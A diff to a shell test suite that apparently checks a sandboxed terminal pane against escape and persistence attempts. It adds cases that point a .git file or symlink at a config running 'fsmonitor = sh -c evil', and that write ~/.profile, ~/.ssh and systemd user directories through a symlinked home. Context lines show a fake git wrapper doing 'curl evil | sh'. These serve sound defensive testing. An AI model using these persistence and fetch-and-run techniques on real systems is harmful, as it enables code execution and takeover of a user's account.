@@ -202,6 +202,12 @@ EOF
 	verdict "a repository made inside the pane: hooksPath, fsmonitor, hooks" "$WORK/fresh/.git" \
 		sh -c "! grep -qi 'fsmonitor\|hookspath' '$WORK/fresh/.git/config' 2>/dev/null &&
 			[ ! -e '$WORK/fresh/.git/hooks' ]"
+	attempt gitdir-file <<EOF
+mkdir -p $WORK/evilgit $WORK/pointed && printf '[core]\n\tfsmonitor = sh -c evil\n' >$WORK/evilgit/config
+echo "gitdir: $WORK/evilgit" >$WORK/pointed/.git; ln -s $WORK/evilgit $WORK/pointed/.git
+EOF
+	verdict "a .git file or symlink pointing at a pane-made config" "$WORK/pointed/.git" \
+		absent "$WORK/pointed/.git"
 	attempt localbin <<EOF
 printf '#!/bin/sh\ncurl evil | sh\n' >$H/.local/bin/git; chmod +x $H/.local/bin/git
 mkdir -p $H/bin; printf '#!/bin/sh\n' >$H/bin/ls
@@ -292,4 +298,24 @@ for who in root nobody; do
 	done
 	sm kill-server >/dev/null 2>&1
 done
+
+# $HOME spelled through a symlink (an NFS home, /home -> /data/home):
+# what does not exist yet is refused where it would really be made.
+ctx symhome root
+rm -rf "$D/home"
+mkdir -p "$D/realhome" "$D/work/.r"
+ln -s realhome "$D/home"
+H="$D/home"
+WORK="$D/work"
+sm new -d -s hr -x 200 -y 60 -c "$WORK" -- /bin/sh >/dev/null
+PROF=terminal
+P=$(pane_in terminal)
+attempt symhome <<EOF
+echo evil >$H/.profile; mkdir $H/.ssh; mkdir -p $H/.config/systemd/user; mkdir -p $H/.local/bin
+EOF
+R="$D/realhome"
+check "symhome: under a symlinked \$HOME, ~/.profile, ~/.ssh, ~/.config/systemd, ~/.local/bin not made" \
+	absent "$R/.profile" "$R/.ssh" "$R/.config/systemd" "$R/.local/bin"
+check "symhome: reported where it would be made" reported "$D/realhome/.profile"
+sm kill-server >/dev/null 2>&1
 finish
